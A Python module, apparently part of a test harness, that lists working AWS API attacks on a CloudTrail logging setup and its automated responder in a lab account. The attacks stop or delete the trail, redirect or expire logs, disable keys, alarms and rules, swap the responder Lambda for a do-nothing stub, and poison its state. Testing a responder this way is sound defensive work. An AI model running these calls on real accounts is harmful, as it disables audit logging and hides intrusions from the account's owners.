"""The attacks: each one call, or a few where AWS asks for more than one. Material: docs/threat-model.md."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from .account import Account

# Answers every event with success and does nothing: the quiet way to take the responder's code away.
_IDLE = """#!/usr/bin/env python3
import os, urllib.request
api = f"http://{os.environ['AWS_LAMBDA_RUNTIME_API']}/2018-06-01/runtime/invocation"
while True:
    with urllib.request.urlopen(f"{api}/next") as event:
        request = event.headers["Lambda-Runtime-Aws-Request-Id"]
    urllib.request.urlopen(f"{api}/{request}/response", data=b"{}").read()
"""


@dataclass(frozen=True)
class Attack:
    """What is done, and to which part of the account."""

    name: str
    group: str
    part: str
    call: Callable[[Account], object]


_attacks: list[Attack] = []


def all_attacks() -> list[Attack]:
    """In the order of the table."""
    return list(_attacks)


def _attack(group: str, part: str, name: str) -> Callable[[Callable[[Account], object]], Callable[[Account], object]]:
    def add(call: Callable[[Account], object]) -> Callable[[Account], object]:
        _attacks.append(Attack(name, group, part, call))
        return call

    return add


def _one(group: str, part: str, name: str, service: str, operation: str, given: Callable[[Account], Any]) -> None:
    """An attack that is one call."""

    def call(account: Account) -> object:
        return getattr(account.intruder.client(service), operation)(**given(account))

    _attacks.append(Attack(name, group, part, call))


def _denying(principal: Any, action: str, resource: str) -> str:
    statement = {"Sid": "Out", "Effect": "Deny", "Principal": principal, "Action": action, "Resource": resource}
    return json.dumps({"Version": "2012-10-17", "Statement": [statement]})


def _key_policy(account: Account) -> str:
    root = f"arn:aws:iam::{account.lab.account}:root"
    statement = {"Sid": "Only", "Effect": "Allow", "Principal": {"AWS": root}, "Action": "kms:*", "Resource": "*"}
    return json.dumps({"Version": "2012-10-17", "Statement": [statement]})


# --- The trail ---

_TRAIL = "Trail"
_one(_TRAIL, "trail", "StopLogging", "cloudtrail", "stop_logging", lambda a: {"Name": a.names.trail})
_one(_TRAIL, "trail", "DeleteTrail", "cloudtrail", "delete_trail", lambda a: {"Name": a.names.trail})
_one(
    _TRAIL,
    "trail",
    "UpdateTrail: no validation, one region",
    "cloudtrail",
    "update_trail",
    lambda a: {"Name": a.names.trail, "EnableLogFileValidation": False, "IsMultiRegionTrail": False},
)
_one(
    _TRAIL,
    "trail",
    "UpdateTrail: the attacker's bucket",
    "cloudtrail",
    "update_trail",
    lambda a: {"Name": a.names.trail, "S3BucketName": a.spares.bucket},
)
_one(
    _TRAIL,
    "trail",
    "PutEventSelectors: reads only",
    "cloudtrail",
    "put_event_selectors",
    lambda a: {
        "TrailName": a.names.trail,
        "EventSelectors": [{"ReadWriteType": "ReadOnly", "IncludeManagementEvents": True}],
    },
)

# --- The log bucket ---

_BUCKET = "Log bucket"


def _bucket(part: str, name: str, operation: str, **given: Any) -> None:
    _one(_BUCKET, part, name, "s3", operation, lambda a: {"Bucket": a.names.bucket, **given})


_bucket("bucket policy", "DeleteBucketPolicy", "delete_bucket_policy")
_one(
    _BUCKET,
    "bucket policy",
    "PutBucketPolicy: CloudTrail denied",
    "s3",
    "put_bucket_policy",
    lambda a: {
        "Bucket": a.names.bucket,
        "Policy": _denying({"Service": "cloudtrail.amazonaws.com"}, "s3:*", f"arn:aws:s3:::{a.names.bucket}/*"),
    },
)
_bucket("bucket public access", "DeletePublicAccessBlock", "delete_public_access_block")
_bucket(
    "bucket versioning",
    "PutBucketVersioning: suspended",
    "put_bucket_versioning",
    VersioningConfiguration={"Status": "Suspended"},
)
_bucket(
    "bucket lifecycle",
    "PutBucketLifecycle: one day",
    "put_bucket_lifecycle_configuration",
    LifecycleConfiguration={
        "Rules": [
            {
                "ID": "soon",
                "Status": "Enabled",
                "Filter": {"Prefix": ""},
                "Expiration": {"Days": 1},
                "NoncurrentVersionExpiration": {"NoncurrentDays": 1},
            }
        ]
    },
)
_one(
    _BUCKET,
    "bucket encryption",
    "PutBucketEncryption: the attacker's key",
    "s3",
    "put_bucket_encryption",
    lambda a: {
        "Bucket": a.names.bucket,
        "ServerSideEncryptionConfiguration": {
            "Rules": [
                {"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": a.spares.key}}
            ]
        },
    },
)
_one(
    _BUCKET,
    "bucket notification",
    "PutBucketNotification: to a deleter",
    "s3",
    "put_bucket_notification_configuration",
    lambda a: {
        "Bucket": a.names.bucket,
        "NotificationConfiguration": {
            "QueueConfigurations": [{"QueueArn": a.spares.queue_arn, "Events": ["s3:ObjectCreated:*"]}]
        },
        "SkipDestinationValidation": True,
    },
)
_bucket(
    "bucket ownership",
    "PutBucketOwnershipControls: ACLs again",
    "put_bucket_ownership_controls",
    OwnershipControls={"Rules": [{"ObjectOwnership": "ObjectWriter"}]},
)
_bucket(
    "bucket object lock",
    "PutObjectLockConfiguration: ten years",
    "put_object_lock_configuration",
    ObjectLockConfiguration={
        "ObjectLockEnabled": "Enabled",
        "Rule": {"DefaultRetention": {"Mode": "COMPLIANCE", "Years": 10}},
    },
)
_one(
    _BUCKET,
    "bucket replication",
    "PutBucketReplication: to the attacker",
    "s3",
    "put_bucket_replication",
    lambda a: {
        "Bucket": a.names.bucket,
        "ReplicationConfiguration": {
            "Role": a.spares.role_arn,
            "Rules": [
                {
                    "ID": "copy",
                    "Priority": 1,
                    "Status": "Enabled",
                    "Filter": {"Prefix": ""},
                    "DeleteMarkerReplication": {"Status": "Disabled"},
                    "Destination": {"Bucket": f"arn:aws:s3:::{a.spares.bucket}"},
                }
            ],
        },
    },
)
_one(
    _BUCKET,
    "bucket request payment",
    "PutBucketRequestPayment: CloudTrail pays",
    "s3",
    "put_bucket_request_payment",
    lambda a: {"Bucket": a.names.bucket, "RequestPaymentConfiguration": {"Payer": "Requester"}},
)
_bucket("bucket", "DeleteBucket", "delete_bucket")

# --- The key of the logs ---

_KEY = "Key"


def _key(part: str, name: str, operation: str, **given: Any) -> None:
    _one(_KEY, part, name, "kms", operation, lambda a: {"KeyId": a.names.key, **given})


_key("key", "DisableKey", "disable_key")
_key("key", "ScheduleKeyDeletion", "schedule_key_deletion", PendingWindowInDays=7)
_one(
    _KEY,
    "key policy",
    "PutKeyPolicy: without CloudTrail",
    "kms",
    "put_key_policy",
    lambda a: {"KeyId": a.names.key, "PolicyName": "default", "Policy": _key_policy(a)},
)
_key("key rotation", "DisableKeyRotation", "disable_key_rotation")
_one(
    _KEY,
    "key alias",
    "UpdateAlias: the attacker's key",
    "kms",
    "update_alias",
    lambda a: {"AliasName": a.names.key_alias, "TargetKeyId": a.spares.key},
)

# --- The responder's rule and schedule ---

_RULE = "Event rule"
_one(_RULE, "rule", "DisableRule", "events", "disable_rule", lambda a: {"Name": a.names.rule})
_one(
    _RULE,
    "targets",
    "RemoveTargets",
    "events",
    "remove_targets",
    lambda a: {"Rule": a.names.rule, "Ids": [a.names.target["Id"]]},
)


@_attack(_RULE, "rule", "RemoveTargets, DeleteRule")
def _delete_rule(account: Account) -> None:
    events = account.intruder.client("events")
    events.remove_targets(Rule=account.names.rule, Ids=[account.names.target["Id"]])
    events.delete_rule(Name=account.names.rule)


_one(
    _RULE,
    "rule",
    "PutRule: a pattern that matches nothing",
    "events",
    "put_rule",
    lambda a: {"Name": a.names.rule, "State": "ENABLED", "EventPattern": json.dumps({"source": ["aws.nothing"]})},
)
_one(
    _RULE,
    "targets",
    "PutTargets: a constant input",
    "events",
    "put_targets",
    lambda a: {"Rule": a.names.rule, "Targets": [a.names.target | {"Input": "{}"}]},
)
_one(
    _RULE,
    "targets",
    "PutTargets: no dead-letter queue, no retries",
    "events",
    "put_targets",
    lambda a: {
        "Rule": a.names.rule,
        "Targets": [
            {
                "Id": a.names.target["Id"],
                "Arn": a.names.target["Arn"],
                "RetryPolicy": {"MaximumRetryAttempts": 0, "MaximumEventAgeInSeconds": 60},
            }
        ],
    },
)

_SCHEDULE = "Schedule"


def _change_schedule(account: Account, name: str, group: str, **changes: Any) -> None:
    scheduler = account.intruder.client("scheduler")
    found = scheduler.get_schedule(Name=name, GroupName=group)
    wanted = ("Name", "GroupName", "ScheduleExpression", "FlexibleTimeWindow", "Target", "State")
    scheduler.update_schedule(**({name: found[name] for name in wanted} | changes))


def _schedule(account: Account, **changes: Any) -> None:
    _change_schedule(account, account.names.schedule, account.names.schedule_group, **changes)


@_attack(_SCHEDULE, "schedule", "UpdateSchedule: disabled")
def _disable_schedule(account: Account) -> None:
    _schedule(account, State="DISABLED")


@_attack(_SCHEDULE, "schedule", "UpdateSchedule: once a year")
def _rare_schedule(account: Account) -> None:
    _schedule(account, ScheduleExpression="rate(365 days)")


@_attack(_SCHEDULE, "schedule", "UpdateSchedule: a constant input")
def _deaf_schedule(account: Account) -> None:
    scheduler = account.intruder.client("scheduler")
    found = scheduler.get_schedule(Name=account.names.schedule, GroupName=account.names.schedule_group)
    _schedule(account, Target=found["Target"] | {"Input": "{}"})


_one(
    _SCHEDULE,
    "schedule",
    "DeleteSchedule",
    "scheduler",
    "delete_schedule",
    lambda a: {"Name": a.names.schedule, "GroupName": a.names.schedule_group},
)

# --- The function ---

_FUNCTION = "Function"


def _function(part: str, name: str, operation: str, given: Callable[[Account], Any] | None = None) -> None:
    _one(
        _FUNCTION,
        part,
        name,
        "lambda",
        operation,
        lambda a: {"FunctionName": a.names.function, **(given(a) if given else {})},
    )


_function(
    "concurrency",
    "PutFunctionConcurrency: 0",
    "put_function_concurrency",
    lambda _: {"ReservedConcurrentExecutions": 0},
)
_function(
    "function",
    "UpdateFunctionConfiguration: one second, least memory",
    "update_function_configuration",
    lambda _: {"Timeout": 1, "MemorySize": 128},
)
_function(
    "function",
    "UpdateFunctionConfiguration: no trails",
    "update_function_configuration",
    lambda _: {"Environment": {"Variables": {}}},
)


@_attack(_FUNCTION, "function", "UpdateFunctionConfiguration: observe only")
def _observe_only(account: Account) -> None:
    client, name = account.intruder.client("lambda"), account.names.function
    variables = client.get_function_configuration(FunctionName=name)["Environment"]["Variables"]
    client.update_function_configuration(
        FunctionName=name, Environment={"Variables": variables | {"TRAILKEEPER_MODE": "observe"}}
    )


_function(
    "function",
    "UpdateFunctionConfiguration: a powerless role",
    "update_function_configuration",
    lambda a: {"Role": a.spares.role_arn},
)
_function(
    "function", "UpdateFunctionCode: does nothing", "update_function_code", lambda _: {"ZipFile": _idle_package()}
)
_function("function", "DeleteFunction", "delete_function")
_function("permission", "RemovePermission", "remove_permission", lambda a: {"StatementId": a.names.permission})
_function(
    "retries",
    "PutFunctionEventInvokeConfig: no retries, no destination",
    "put_function_event_invoke_config",
    lambda _: {"MaximumRetryAttempts": 0, "MaximumEventAgeInSeconds": 60},
)
_function("retries", "DeleteFunctionEventInvokeConfig", "delete_function_event_invoke_config")


def _idle_package() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as package:
        entry = zipfile.ZipInfo("bootstrap")
        entry.external_attr = 0o755 << 16
        package.writestr(entry, _IDLE)
    return content.getvalue()


# --- The roles ---

_ROLE = "Role"


def _role(part: str, name: str, operation: str, given: Callable[[Account], Any]) -> None:
    _one(
        _ROLE,
        part,
        name,
        "iam",
        operation,
        lambda a: {"RoleName": a.names.role if part == "role" else a.names.sweep_role, **given(a)},
    )


_NO_ONE = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}],
    }
)
_DENY_ALL = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*"}]})
_role("role", "DeleteRolePolicy", "delete_role_policy", lambda a: {"PolicyName": a.names.role_policy})
_role(
    "role", "PutRolePolicy: all denied", "put_role_policy", lambda _: {"PolicyName": "out", "PolicyDocument": _DENY_ALL}
)
_role("role", "AttachRolePolicy: all denied", "attach_role_policy", lambda a: {"PolicyArn": a.spares.policy_arn})
_role(
    "role",
    "PutRolePermissionsBoundary",
    "put_role_permissions_boundary",
    lambda a: {"PermissionsBoundary": a.spares.policy_arn},
)
_role("role", "UpdateAssumeRolePolicy", "update_assume_role_policy", lambda _: {"PolicyDocument": _NO_ONE})


@_attack(_ROLE, "role", "DeleteRolePolicy, DeleteRole")
def _delete_role(account: Account) -> None:
    iam, role = account.intruder.client("iam"), account.names.role
    iam.delete_role_policy(RoleName=role, PolicyName=account.names.role_policy)
    iam.delete_role(RoleName=role)


_role(
    "sweep's role",
    "DeleteRolePolicy: the schedule's role",
    "delete_role_policy",
    lambda a: {"PolicyName": a.names.sweep_role_policy},
)

# --- The understudy, and both at once ---

_UNDERSTUDY = "Understudy"


def _of_understudy(
    part: str, name: str, service: str, operation: str, target: Callable[[Account], Any], **given: Any
) -> None:
    _one(
        _UNDERSTUDY,
        f"understudy's {part}",
        f"{name}: the understudy's",
        service,
        operation,
        lambda a: target(a) | given,
    )


_of_understudy(
    "concurrency",
    "PutFunctionConcurrency: 0",
    "lambda",
    "put_function_concurrency",
    lambda a: {"FunctionName": a.names.understudy},
    ReservedConcurrentExecutions=0,
)
_of_understudy(
    "function", "DeleteFunction", "lambda", "delete_function", lambda a: {"FunctionName": a.names.understudy}
)
_of_understudy(
    "role",
    "DeleteRolePolicy",
    "iam",
    "delete_role_policy",
    lambda a: {"RoleName": a.names.understudy_role, "PolicyName": a.names.understudy_role_policy},
)


_of_understudy(
    "schedule",
    "DeleteSchedule",
    "scheduler",
    "delete_schedule",
    lambda a: {"Name": a.names.understudy_schedule, "GroupName": a.names.understudy_schedule_group},
)


@_attack(_UNDERSTUDY, "understudy's schedule", "UpdateSchedule: disabled: the understudy's")
def _disable_understudys_schedule(account: Account) -> None:
    names = account.names
    _change_schedule(account, names.understudy_schedule, names.understudy_schedule_group, State="DISABLED")


@_attack(_UNDERSTUDY, "concurrency", "PutFunctionConcurrency: 0 for both")
def _no_concurrency_for_both(account: Account) -> None:
    for name in (account.names.function, account.names.understudy):
        account.intruder.client("lambda").put_function_concurrency(FunctionName=name, ReservedConcurrentExecutions=0)


# --- Who is told ---

_TOPIC = "Topic"
_one(_TOPIC, "topic", "DeleteTopic", "sns", "delete_topic", lambda a: {"TopicArn": a.names.topic})
_one(
    _TOPIC,
    "topic",
    "SetTopicAttributes: publishing denied",
    "sns",
    "set_topic_attributes",
    lambda a: {
        "TopicArn": a.names.topic,
        "AttributeName": "Policy",
        "AttributeValue": _denying("*", "sns:Publish", a.names.topic),
    },
)
_one(
    _TOPIC,
    "topic",
    "SetTopicAttributes: the attacker's key",
    "sns",
    "set_topic_attributes",
    lambda a: {"TopicArn": a.names.topic, "AttributeName": "KmsMasterKeyId", "AttributeValue": a.spares.key},
)
_one(
    _TOPIC,
    "subscriptions",
    "Unsubscribe",
    "sns",
    "unsubscribe",
    lambda a: {"SubscriptionArn": a.names.subscription},
)
_one(
    _TOPIC,
    "subscriptions",
    "SetSubscriptionAttributes: a filter",
    "sns",
    "set_subscription_attributes",
    lambda a: {
        "SubscriptionArn": a.names.subscription,
        "AttributeName": "FilterPolicy",
        "AttributeValue": json.dumps({"severity": ["none"]}),
    },
)
_one(_TOPIC, "topic key", "DisableKey: the topic's", "kms", "disable_key", lambda a: {"KeyId": a.names.topic_key})

_ALARMS = "Alarms"
_one(_ALARMS, "alarms", "DeleteAlarms", "cloudwatch", "delete_alarms", lambda a: {"AlarmNames": a.names.alarms})
_one(
    _ALARMS,
    "alarms",
    "DisableAlarmActions",
    "cloudwatch",
    "disable_alarm_actions",
    lambda a: {"AlarmNames": a.names.alarms},
)


@_attack(_ALARMS, "alarms", "PutMetricAlarm: silence is good")
def _deaf_heartbeat(account: Account) -> None:
    cloudwatch = account.intruder.client("cloudwatch")
    found = cloudwatch.describe_alarms(AlarmNames=[account.names.heartbeat])["MetricAlarms"][0]
    wanted = (
        "AlarmName",
        "AlarmActions",
        "MetricName",
        "Namespace",
        "Statistic",
        "Dimensions",
        "Period",
        "EvaluationPeriods",
        "Threshold",
        "ComparisonOperator",
    )
    cloudwatch.put_metric_alarm(**{name: found[name] for name in wanted}, TreatMissingData="notBreaching")


# --- What it leans on ---

_REST = "Queue, log, baseline, table"
_one(
    _REST,
    "queue",
    "SetQueueAttributes: sending denied",
    "sqs",
    "set_queue_attributes",
    lambda a: {"QueueUrl": a.names.queue, "Attributes": {"Policy": _denying("*", "sqs:SendMessage", "*")}},
)
_one(_REST, "queue", "DeleteQueue", "sqs", "delete_queue", lambda a: {"QueueUrl": a.names.queue})
_one(_REST, "log group", "DeleteLogGroup", "logs", "delete_log_group", lambda a: {"logGroupName": a.names.log_group})
_one(
    _REST,
    "log group",
    "PutRetentionPolicy: one day",
    "logs",
    "put_retention_policy",
    lambda a: {"logGroupName": a.names.log_group, "retentionInDays": 1},
)


@_attack(_REST, "baseline", "PutParameter: a weaker baseline")
def _weaker_baseline(account: Account) -> None:
    ssm, name = account.intruder.client("ssm"), account.names.parameter
    declared = json.loads(ssm.get_parameter(Name=name)["Parameter"]["Value"])
    ssm.put_parameter(Name=name, Value=json.dumps(declared | {"is_multi_region_trail": False}), Overwrite=True)


_one(_REST, "baseline", "DeleteParameter", "ssm", "delete_parameter", lambda a: {"Name": a.names.parameter})
_one(_REST, "table", "DeleteTable", "dynamodb", "delete_table", lambda a: {"TableName": a.names.table})
_one(
    _REST,
    "table",
    "PutItem: a told incident",
    "dynamodb",
    "put_item",
    lambda a: {"TableName": a.names.table, "Item": {"id": {"S": "poison"}}},
)
_one(
    _REST,
    "table policy",
    "DeleteResourcePolicy of the table",
    "dynamodb",
    "delete_resource_policy",
    lambda a: {"ResourceArn": a.names.table_arn},
)
